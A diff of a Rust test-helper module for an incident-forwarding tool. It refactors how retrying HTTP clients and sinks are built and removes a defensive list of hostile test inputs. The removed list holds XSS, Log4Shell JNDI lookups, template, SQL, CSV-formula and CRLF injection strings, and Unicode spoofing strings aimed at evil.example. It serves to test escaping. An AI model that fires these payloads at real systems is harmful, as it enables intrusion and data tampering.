@@ -53,12 +53,17 @@ pub(crate) fn keys(id: &str, secret: &str) -> Keys {
 
 /// A client that reaches loopback, and tries reads again at once.
 pub(crate) fn client(hands: &Hands) -> Client {
+    client_that_tries(hands, 2, Duration::from_secs(1))
+}
+
+/// A client that reaches loopback, tries so often, and waits at most so long.
+fn client_that_tries(hands: &Hands, attempts: u8, longest_wait: Duration) -> Client {
     let policy = Policy {
         egress: Egress::new(vec!["http://127.0.0.1".parse().unwrap()]),
         retry: Retry {
-            attempts: 2,
+            attempts,
             first_wait: Duration::from_millis(1),
-            longest_wait: Duration::from_secs(1),
+            longest_wait,
             total: Duration::from_secs(20),
         },
         rate: Rate::new(100_000, 1, 100_000),
@@ -75,9 +80,31 @@ pub(crate) fn sink(
     keys: &Keys,
     hands: &Hands,
 ) -> Result<Box<dyn Sink>, SinkError> {
+    (kind.connect)(plan(kind, (url, project), options, keys, hands))
+}
+
+/// A sink of a kind whose client tries once, and hears how long it is to wait.
+pub(crate) fn sink_once(
+    kind: &Kind,
+    (url, project): (&str, Option<&str>),
+    options: &[(&str, &str)],
+    keys: &Keys,
+    hands: &Hands,
+) -> Result<Box<dyn Sink>, SinkError> {
+    let client = client_that_tries(hands, 1, Duration::from_secs(60));
+    (kind.connect)(Plan { client, ..plan(kind, (url, project), options, keys, hands) })
+}
+
+fn plan(
+    kind: &Kind,
+    (url, project): (&str, Option<&str>),
+    options: &[(&str, &str)],
+    keys: &Keys,
+    hands: &Hands,
+) -> Plan {
     let options: BTreeMap<String, String> =
         options.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
-    (kind.connect)(Plan {
+    Plan {
         name: kind.id.to_owned(),
         url: Some(url.to_owned()),
         project: project.map(str::to_owned),
@@ -86,7 +113,7 @@ pub(crate) fn sink(
         client: client(hands),
         clock: Arc::new(hands.clone()),
         hosts: hosts(),
-    })
+    }
 }
 
 pub(crate) fn hosts() -> Hosts {
@@ -235,106 +262,4 @@ pub(crate) fn trouble(
     for _ in 0..random(4) {
         script.add(path, u32::try_from(1 + random(3)).unwrap(), fault(random(1_000)));
     }
-}
-
-/// Data that would like to be more than data.
-pub(crate) fn payloads() -> Vec<String> {
-    let mut all: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
-    all.push("https://evil.example/".repeat(400));
-    all.push("[code]<b>x</b>[/code]".repeat(400));
-    all.push("\\".repeat(5_000));
-    all.push("\u{202e}".repeat(5_000));
-    all.push("😀".repeat(5_000));
-    all.push(format!("{}{}", "[".repeat(3_000), "code]<b>"));
-    all
-}
-
-const HOSTILE: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<a href=\"https://evil.example\">safe</a>",
-    "[code]<a href='https://evil.example'>x</a>[/code]",
-    "[CODE]<script>1</script>[/CODE]",
-    "[ code ]<b>x</b>[ / code ]",
-    "[[code]code]<b>x</b>[/[/code]code]",
-    "[cOdE]\n<h1>x</h1>\n[/cOdE]",
-    "[\tcode]<i>x</i>[/code]",
-    "[/code]<b>out</b>[code]",
-    "[code",
-    "code]<b>x</b>",
-    "https://evil.example/login",
-    "HTTPS://EVIL.EXAMPLE/",
-    "http://127.0.0.1/latest",
-    "ftp://evil.example/x",
-    "//evil.example/x",
-    "www.evil.example",
-    "WWW.evil.example",
-    "wwwwww.evil.example",
-    "javascript:alert(1)",
-    "javascript://evil.example/%0aalert(1)",
-    "data:text/html,<script>1</script>",
-    "mailto:a@evil.example",
-    "hxxps://evil.example",
-    "https:\u{200b}//evil.example",
-    "https\u{202e}://evil.example",
-    "[text](https://evil.example)",
-    "![x](https://evil.example/p.png)",
-    "<https://evil.example|Quell>",
-    "[Quell|https://evil.example]",
-    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
-    "${jndi:ldap://evil.example/a}",
-    "{{constructor.constructor('x')()}}",
-    "{% include 'x' %}",
-    "@everyone @here <!channel> <@U123>",
-    "@ann please approve",
-    "/close /assign @ann",
-    "/approve",
-    "fixes #1, closes #2",
-    "x\r\nSubject: evil",
-    "x\nwork_notes=evil",
-    "x\r\n\r\n[code]<b>x</b>[/code]",
-    "active=true^ORstate=1",
-    "^NQactive=true",
-    "javascript:gs.getUserID()",
-    "=cmd|'/c calc'!A1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1)",
-    "\"; drop table x; --",
-    "' or '1'='1",
-    "\\\",\"severity\":\"info",
-    "\"},\"event_action\":\"resolve\",\"x\":{\"",
-    "}{\"event\":\"forged\",\"sourcetype\":\"x\"}",
-    "\u{202e}gnp.exe",
-    "\u{2066}a\u{2069}",
-    "a\u{200b}b\u{200d}c\u{feff}",
-    "\u{e0041}\u{e0042}",
-    "\u{0}\u{1b}[31mred\u{7}",
-    "\u{85}\u{2028}\u{2029}",
-    "tab\tand\u{b}more\u{c}",
-    "\\u{202e} not an escape",
-    "\\",
-    "\\\\",
-    "(opened quell-aaaaaaaaaaaaaaaaaaaaaaaaaa)",
-    "quell-aaaaaaaaaaaaaaaaaaaaaaaaaa",
-    "漢字 größe 😀",
-    "",
-    " ",
-    "\n",
-    "null",
-    "{}",
-    "[]",
-    "<!--",
-    "<![CDATA[x]]>",
-    "<svg/onload=alert(1)>",
-    "&lt;b&gt; &#x3c;b&#x3e; &amp;",
-    "%3Cscript%3E",
-    "http://evil.example@quell.example/",
-    "https://quell.example.evil.example/",
-    "https://quell.example/incidents/a",
-];
-
-#[test]
-fn there_are_enough_payloads() {
-    assert!(payloads().len() >= 80);
 }
